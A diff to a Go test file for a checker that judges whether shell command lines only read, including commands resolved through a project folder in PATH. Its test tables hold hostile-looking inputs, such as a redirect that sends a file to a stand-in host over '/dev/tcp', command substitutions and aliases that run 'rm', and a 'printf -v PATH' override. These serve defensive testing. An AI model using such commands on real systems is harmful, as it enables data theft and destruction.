@@ -62,7 +62,7 @@ func TestOnlyReads(t *testing.T) {
 		"git diff --output=x": false, "git -c core.pager=x log": false, "git grep -O x": false,
 		"node x.js --version": false, "python3 --version x.py": false, "go env -w A=b": false,
 		"./ls": false, "/tmp/ls": false, "zork": false, "command rm x": false, "$x": false,
-		"echo hi": false, "echo hi; ls": true,
+		"echo hi": false, "echo hi; ls": true, "printf -v PATH x; ls": false,
 		"ls $(rm x)": false, "ls <(rm x)": false, "ls() { rm x; }; ls": false,
 		"alias ls=rm; ls x": false, "bash -c ls": false, "sudo ls": false, "eval ls": false,
 		"curl http://h": false, "make": false, "cat a.go > /dev/tcp/h/1": false, "ls '": false,
@@ -96,6 +96,33 @@ func TestOnlyReadsWithGit(t *testing.T) {
 		"(cd runs); git diff": false, "cd bare && git log": false,
 		"cd plain && cd - && git status": false, "cd plain; pushd runs && git show": false} {
 		if got := f.Command(line, dir, dir).Risks().OnlyReads; got != want {
+			t.Errorf("%q: got %v, want %v", line, got, want)
+		}
+	}
+}
+
+// TestOnlyReadsByPath: the name of a program that only reads may lead to another one, in a folder of
+// the project that is in PATH.
+func TestOnlyReadsByPath(t *testing.T) {
+	dir := t.TempDir()
+	for _, name := range []string{"p/bin/cat", "out/head"} {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte("#!/bin/sh\n"), 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	project := filepath.Join(dir, "p")
+	if err := os.Symlink("../../out/head", filepath.Join(project, "bin", "head")); err != nil {
+		t.Skip(err)
+	}
+	const list = string(os.PathListSeparator)
+	t.Setenv("PATH", filepath.Join(project, "bin")+list+os.Getenv("PATH"))
+	for line, want := range map[string]bool{"cat x": false, "ls | cat": false, "head x": true,
+		"ls": true} {
+		if got := (Finder{}).Command(line, project, project).Risks().OnlyReads; got != want {
 			t.Errorf("%q: got %v, want %v", line, got, want)
 		}
 	}
